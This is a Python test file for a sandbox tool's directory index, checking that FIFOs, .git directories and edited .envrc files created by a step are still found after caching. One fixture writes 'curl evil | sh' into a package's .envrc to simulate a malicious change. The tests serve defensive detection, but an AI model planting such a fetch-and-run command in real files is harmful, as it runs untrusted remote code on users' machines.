"""The guard's kept directory index: a walk lists only what changed, and misses nothing it must see."""
from __future__ import annotations

import marshal
import os
import time
from pathlib import Path

from sbox_shim import guard, kept
from sbox_shim.guard import index

SETTLE = 0.2  # past index.SLACK_NS: the tree's ctimes are older than the walk that keeps them


def tree(tmp_path: Path) -> tuple[Path, Path]:
    root, state = tmp_path / "project", tmp_path / "state"
    (root / "node_modules" / "a" / "lib").mkdir(parents=True)
    (root / "node_modules" / "b").mkdir()
    (root / "node_modules" / "a" / "lib" / "x.js").write_text("x")
    (root / "node_modules" / "a" / ".envrc").write_text("echo old\n")
    state.mkdir(mode=0o700)
    time.sleep(SETTLE)
    return root, state


def special(root: Path, state: Path, since: int) -> dict[str, str]:
    found = guard.special_files(str(root), str(root), frozenset(), since, str(state))
    return {rel: entry.kind for rel, entry in found}


def test_an_unchanged_tree_is_not_listed_again(tmp_path: Path) -> None:
    root, state = tree(tmp_path)
    first = index.scan(str(root), str(state))
    assert first.lists == 5 and first.complete  # project, node_modules, a, a/lib, b
    time.sleep(SETTLE)
    again = index.scan(str(root), str(state))  # re-keeps the index at a settled time
    time.sleep(SETTLE)
    third = index.scan(str(root), str(state))
    assert third.lists == 0 and third.listed == [], "the kept index was not used"
    assert third.nested == first.nested == again.nested == [str(root / "node_modules" / "a" / ".envrc")]


def test_what_a_step_makes_in_a_kept_tree_is_found(tmp_path: Path) -> None:
    root, state = tree(tmp_path)
    index.scan(str(root), str(state))
    time.sleep(SETTLE)
    index.scan(str(root), str(state))
    (root / "node_modules" / "b" / "new").mkdir()  # between runs, outside any step: b changes
    time.sleep(SETTLE)
    since = guard.started_ns()
    os.mkfifo(root / "node_modules" / "b" / "new" / "p.fifo")  # in a directory the index never saw
    os.mkfifo(root / "node_modules" / "a" / "lib" / "q.fifo")  # in a kept, settled directory
    (root / "node_modules" / "a" / ".envrc").write_text("curl evil | sh\n")  # in place: `a` does not change
    (root / "node_modules" / "b" / ".git").mkdir()
    found = special(root, state, since)
    assert found == {"node_modules/b/new/p.fifo": "fifo", "node_modules/a/lib/q.fifo": "fifo",
                     "node_modules/a/.envrc": "file", "node_modules/b/.git": "dir"}
    assert index.scan(str(root), str(state)).gits() == (str(root / "node_modules" / "b" / ".git"),)


def test_a_change_in_the_tick_of_the_kept_walk_is_not_hidden(tmp_path: Path) -> None:
    """A directory changed so soon after the walk that kept it that its ctime reads the same (a coarse
    clock) is listed again all the same."""
    root, state = tree(tmp_path)
    index.scan(str(root), str(state))
    lib = root / "node_modules" / "a" / "lib"
    os.mkfifo(lib / "q.fifo")
    where = index.path_of(str(root), str(state))
    assert where
    record = kept.read_private(where)
    assert isinstance(record, dict)
    st = os.lstat(lib)
    record["dirs"][str(lib)] = (st.st_dev, st.st_ino, st.st_ctime_ns)  # as if kept after the fifo came
    record["time"] = st.st_ctime_ns  # ... by a walk in the same tick
    kept.write_private(where, record)
    assert "node_modules/a/lib/q.fifo" in special(root, state, 0)


def test_an_index_sbox_did_not_keep_is_not_used(tmp_path: Path) -> None:
    root, state = tree(tmp_path)
    index.scan(str(root), str(state))
    where = index.path_of(str(root), str(state))
    assert where
    record = marshal.loads(Path(where).read_bytes())
    record["dirs"] = {p: (0, 0, 0) for p in record["dirs"]}
    record["time"] = time.time_ns()
    Path(where).write_bytes(marshal.dumps(record))
    os.chmod(where, 0o666)  # writable by others: not sbox's private file
    assert index.scan(str(root), str(state)).lists == 5
    assert index.path_of(str(root), str(root / "state")) is None  # never kept inside the tree it walks


def _nest(top: Path, names: list[str]) -> None:
    """Directories one in another, made through descriptors (deeper than a path may reach)."""
    fd = os.open(top, os.O_RDONLY)
    try:
        for name in names:
            os.mkdir(name, dir_fd=fd)
            next_fd = os.open(name, os.O_RDONLY, dir_fd=fd)
            os.close(fd)
            fd = next_fd
        os.mkfifo("fifo", dir_fd=fd)
    finally:
        os.close(fd)


def test_a_tree_deeper_than_a_path_reaches_is_walked(tmp_path: Path) -> None:
    root, state = tree(tmp_path)
    _nest(root / "node_modules" / "b", ["d" * 200] * 25)  # 5,000 characters: past PATH_MAX
    scan = index.scan(str(root), str(state), stats=True)
    assert scan.complete and not scan.too_deep
    assert [p for p, name, _ in scan.listed if name == "fifo"] == [str(root / "node_modules" / "b") + ("/" + "d" * 200) * 25 + "/fifo"]


def test_a_tree_that_could_not_be_listed_keeps_no_index(tmp_path: Path) -> None:
    root, state = tree(tmp_path)
    index.scan(str(root), str(state))
    where = index.path_of(str(root), str(state))
    assert where and os.path.exists(where)
    _nest(root / "node_modules" / "b", ["d"] * (index.MAX_DEPTH + 8))  # deeper than a walk holds directories open
    scan = index.scan(str(root), str(state))
    assert not scan.complete and scan.too_deep
    assert not os.path.exists(where)


def test_a_walk_for_another_step_meanwhile_does_not_hide_what_this_step_made(tmp_path: Path) -> None:
    """Red team 8: a step started with no index kept (a project's first writable step, or one
    whose walks a racing sandbox left incomplete); it made a FIFO; another sbox's walk (the next
    command's plan checking `.git` entries) listed that directory and kept an index saying it was
    seen; the step's own walk at its end then took the directory as unchanged, and the FIFO
    stayed. The step's end is compared with the index of its start."""
    import subprocess
    import sys

    root, state = tree(tmp_path)
    from sbox_shim.plan import Mount

    mounts = [Mount(str(root), str(root), readonly=False)]
    other = ("import sys; sys.path.insert(0, sys.argv[3]); from sbox_shim.guard import index; "
             "index.scan(sys.argv[1], sys.argv[2])")
    source = str(Path(index.__file__).resolve().parents[2])
    for meanwhile in (False, True):  # the control, then the other sbox's walk
        where = index.path_of(str(root), str(state))
        assert where
        kept.remove(where)
        snapshot = guard.before(str(root), mounts, str(state))
        fifo = root / "node_modules" / "b" / f"ff-{meanwhile}"
        os.mkfifo(fifo)  # what the step makes
        time.sleep(SETTLE)
        if meanwhile:
            subprocess.run([sys.executable, "-c", other, str(root), str(state), source], check=True)
            time.sleep(SETTLE)
        changes = guard.after(snapshot, mounts, str(state))
        assert f"node_modules/b/ff-{meanwhile}" in [c.path for c in changes], (meanwhile, changes)
